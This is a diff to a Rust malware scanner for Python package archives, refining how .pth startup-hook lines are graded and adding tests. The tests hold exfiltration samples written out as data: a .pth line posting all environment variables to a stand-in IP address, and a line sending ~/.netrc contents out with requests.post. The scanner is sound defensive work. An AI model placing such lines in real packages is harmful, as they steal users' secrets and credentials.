@@ -85,6 +85,14 @@ fn pth_imports(text: &str) -> Vec<String> {
     let mut out = Vec::new();
     for line in text.lines() {
         let l = line.trim_start();
+        if (l.starts_with("import ") || l.starts_with("import\t"))
+            && !known_pth_line(l)
+            && let Some((_, imports)) = python::startup_line(l)
+        {
+            // With its literal `exec('...')` code unfolded.
+            out.extend(imports.into_iter().map(|m| m.to_ascii_lowercase()));
+            continue;
+        }
         if (l.starts_with("import ") || l.starts_with("import\t")) && !known_pth_line(l) {
             for stmt in l.split(';') {
                 if let Some(rest) = stmt.trim().strip_prefix("import ") {
@@ -156,6 +164,8 @@ struct Collector<'r> {
     setup_text: String,
     is_wheel: bool,
     findings: Vec<(Option<String>, MemberFinding)>,
+    /// Directory names and module stems the archive ships (its own modules).
+    modules: std::collections::BTreeSet<String>,
 }
 
 impl Collector<'_> {
@@ -165,6 +175,16 @@ impl Collector<'_> {
         let path = format!("{prefix}{}", m.path);
         if depth == 0 && m.path.contains(".dist-info/") && m.path.ends_with("/WHEEL") {
             self.is_wheel = true;
+        }
+        if depth == 0 {
+            let parts: Vec<&str> = m.path.split('/').filter(|c| !c.is_empty()).collect();
+            for (i, c) in parts.iter().enumerate() {
+                if let Some(stem) = c.strip_suffix(".py") {
+                    self.modules.insert(stem.to_string());
+                } else if i + 1 < parts.len() {
+                    self.modules.insert((*c).to_string());
+                }
+            }
         }
         let Some(data) = m.data else { return };
         if is_nested_archive(&m.path) && archive::detect(&data).is_some() {
@@ -228,6 +248,7 @@ pub fn scan_bytes(
         setup_text: String::new(),
         is_wheel: false,
         findings: Vec::new(),
+        modules: std::collections::BTreeSet::new(),
     };
     let mut contents = archive::read(bytes, limits, &keep, &mut |m| c.member(m, "", 0));
     let mut opened = 0usize;
@@ -300,6 +321,7 @@ pub fn scan_bytes(
         setup_text,
         is_wheel,
         findings,
+        modules: own_modules,
         ..
     } = c;
     let mut out = ArchiveScan {
@@ -340,7 +362,7 @@ pub fn scan_bytes(
     for (path, data) in &pth {
         startup_modules.extend(pth_imports(&String::from_utf8_lossy(data)));
         out.findings.extend(
-            pth_findings(rules, data)
+            pth_findings(rules, path, data, &own_modules)
                 .into_iter()
                 .map(|f| (Some(path.clone()), f)),
         );
@@ -437,44 +459,110 @@ fn names_file(text: &str, base: &str) -> bool {
     })
 }
 
-fn pth_findings(rules: &rules::Rules, data: &[u8]) -> Vec<MemberFinding> {
+/// Modules a startup line may import without being suspect by that alone.
+const STARTUP_STDLIB: &[&str] = &["os", "sys", "site", "types", "importlib", "warnings"];
+
+/// The findings of a `.pth` file. Where it is decides first: one in tests or
+/// docs is never installed as a startup hook. A line whose code (its literal
+/// `exec('...')` strings unfolded) does something the scanner reports is
+/// critical; one that only imports this distribution's own modules (which
+/// are then analysed as startup code) is low; anything else is high.
+fn pth_findings(
+    rules: &rules::Rules,
+    path: &str,
+    data: &[u8],
+    own_modules: &std::collections::BTreeSet<String>,
+) -> Vec<MemberFinding> {
     let text = String::from_utf8_lossy(data);
+    let fixture = analyze::role(path, &[]) == analyze::Role::Test;
     let mut out = Vec::new();
     for (i, line) in text.lines().enumerate() {
         let l = line.trim_start();
         if !(l.starts_with("import ") || l.starts_with("import\t")) || known_pth_line(l) {
             continue;
         }
+        let shown: String = l.chars().take(160).collect();
+        let at = u32::try_from(i + 1).ok();
+        let finding = |severity, confidence, message: String| MemberFinding {
+            rule: RuleId::PthStartupHook,
+            severity,
+            confidence,
+            line: at,
+            message,
+            evidence: vec![("snippet".into(), shown.clone())],
+        };
+        if fixture {
+            out.push(finding(
+                Severity::Low,
+                Confidence::Low,
+                "a .pth file in tests, docs or examples: not installed as a startup hook".into(),
+            ));
+            continue;
+        }
+        if let Some((code, imports)) = python::startup_line(l) {
+            let inner: Vec<MemberFinding> =
+                analyze::analyze(rules, path, code.as_bytes(), analyze::Role::Startup)
+                    .into_iter()
+                    .filter(|f| f.severity >= Severity::Medium)
+                    .collect();
+            if !inner.is_empty() {
+                let rules_found: Vec<&str> = inner.iter().map(|f| f.rule.as_str()).collect();
+                out.push(finding(
+                    Severity::Critical,
+                    Confidence::High,
+                    format!(
+                        "a .pth line runs code at every interpreter start and it is {}",
+                        rules_found.join(", ")
+                    ),
+                ));
+                out.extend(inner.into_iter().map(|mut f| {
+                    f.line = at;
+                    f
+                }));
+                continue;
+            }
+            let foreign: Vec<&String> = imports
+                .iter()
+                .filter(|m| !own_modules.contains(*m) && !STARTUP_STDLIB.contains(&m.as_str()))
+                .collect();
+            if foreign.is_empty() {
+                let own: Vec<&str> = imports
+                    .iter()
+                    .filter(|m| own_modules.contains(*m))
+                    .map(String::as_str)
+                    .collect();
+                out.push(finding(
+                    Severity::Low,
+                    Confidence::Medium,
+                    format!(
+                        "a .pth line runs code at every interpreter start; it imports only this distribution's own modules ({}), analysed as startup code",
+                        if own.is_empty() { "none".to_string() } else { own.join(", ") }
+                    ),
+                ));
+                continue;
+            }
+        }
         let hits = rules.scan(l.as_bytes(), 8);
         let kinds: Vec<&str> = hits
             .iter()
             .map(|h| rules.indicators[h.indicator].id.as_str())
             .collect();
-        let dangerous = !kinds.is_empty();
-        let shown: String = l.chars().take(160).collect();
-        out.push(MemberFinding {
-            rule: RuleId::PthStartupHook,
-            severity: if dangerous {
-                Severity::Critical
-            } else {
-                Severity::High
-            },
-            confidence: if dangerous {
-                Confidence::High
-            } else {
-                Confidence::Medium
-            },
-            line: u32::try_from(i + 1).ok(),
-            message: if dangerous {
+        if kinds.is_empty() {
+            out.push(finding(
+                Severity::High,
+                Confidence::Medium,
+                "a .pth line runs code at every interpreter start".into(),
+            ));
+        } else {
+            out.push(finding(
+                Severity::Critical,
+                Confidence::High,
                 format!(
                     "a .pth line runs code at every interpreter start and it {}",
                     kinds.join(", ")
-                )
-            } else {
-                "a .pth line runs code at every interpreter start".to_string()
-            },
-            evidence: vec![("snippet".into(), shown)],
-        });
+                ),
+            ));
+        }
     }
     out
 }
@@ -681,6 +769,62 @@ mod tests {
             scan.gaps.iter().any(|g| g.contains("nested more than")),
             "{:?}",
             scan.gaps
+        );
+    }
+
+    fn pth_severities(files: &[(&str, &[u8])]) -> Vec<(String, Severity)> {
+        let scan = scan_bytes("p-1.0-py3-none-any.whl", &zip(files), &Limits::default()).unwrap();
+        let mut v: Vec<(String, Severity)> = scan
+            .findings
+            .iter()
+            .filter(|(_, f)| f.rule == RuleId::PthStartupHook)
+            .map(|(m, f)| (m.clone().unwrap_or_default(), f.severity))
+            .collect();
+        v.sort();
+        v
+    }
+
+    #[test]
+    fn startup_files_are_judged_by_what_their_code_does_and_where_they_are() {
+        // coverage's idiom: a literal exec that imports the distribution's own module.
+        let own = br#"import os, sys;exec('if os.getenv("COVERAGE_PROCESS_START"):\n import cov\n cov.process_startup()')"#;
+        assert_eq!(
+            pth_severities(&[
+                ("a1_cov.pth", own),
+                ("cov/__init__.py", b"def process_startup():\n    pass\n")
+            ]),
+            vec![("a1_cov.pth".into(), Severity::Low)]
+        );
+        // The same idiom collecting the environment and sending it: critical.
+        let stealer = br#"import os;exec('import json, urllib.request\nurllib.request.urlopen("http://203.0.113.7/c", data=json.dumps(dict(os.environ)).encode())')"#;
+        let got = pth_severities(&[("init.pth", stealer)]);
+        assert_eq!(got, vec![("init.pth".into(), Severity::Critical)]);
+        // Importing a module the distribution does not ship: high.
+        assert_eq!(
+            pth_severities(&[("x.pth", b"import elsewhere_hook\n")]),
+            vec![("x.pth".into(), Severity::High)]
+        );
+        // Under tests/ it is never installed as a startup hook.
+        assert_eq!(
+            pth_severities(&[("tests/data/x.pth", b"import elsewhere_hook\n")]),
+            vec![("tests/data/x.pth".into(), Severity::Low)]
+        );
+    }
+
+    #[test]
+    fn words_in_comments_are_not_code() {
+        let rules = rules::rules().unwrap();
+        let commented = b"import os\n# requests.post(url, data=open(os.path.expanduser('~/.netrc')).read())\nx = 1\n";
+        assert!(
+            analyze::analyze(rules, "p/pkg/__init__.py", commented, analyze::Role::Init)
+                .iter()
+                .all(|f| f.severity < Severity::Medium)
+        );
+        let real = b"import os, requests\nrequests.post(url, data=open(os.path.expanduser('~/.netrc')).read())  # send\n";
+        assert!(
+            analyze::analyze(rules, "p/pkg/__init__.py", real, analyze::Role::Init)
+                .iter()
+                .any(|f| f.rule == RuleId::Exfiltration)
         );
     }
 }
